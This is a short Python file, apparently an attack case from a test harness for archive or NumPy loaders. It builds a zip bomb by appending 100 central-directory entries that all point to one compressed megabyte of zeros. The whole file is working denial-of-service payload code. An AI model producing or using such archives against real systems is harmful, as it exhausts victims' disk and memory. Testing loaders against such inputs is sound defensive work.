"""A hundred members that are one stretch of the file (a better zip bomb).

100 times its size unpacked.
"""

import io
import zipfile


def attack(path, sound, canary):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in sound.items():
            archive.writestr(name, data)
        archive.writestr("big.npy", bytes(1 << 20))
        big = archive.NameToInfo["big.npy"]
        for number in range(100):
            again = zipfile.ZipInfo(f"big{number}.npy")
            for slot in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(again, slot, getattr(big, slot))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    path.write_bytes(file.getvalue())
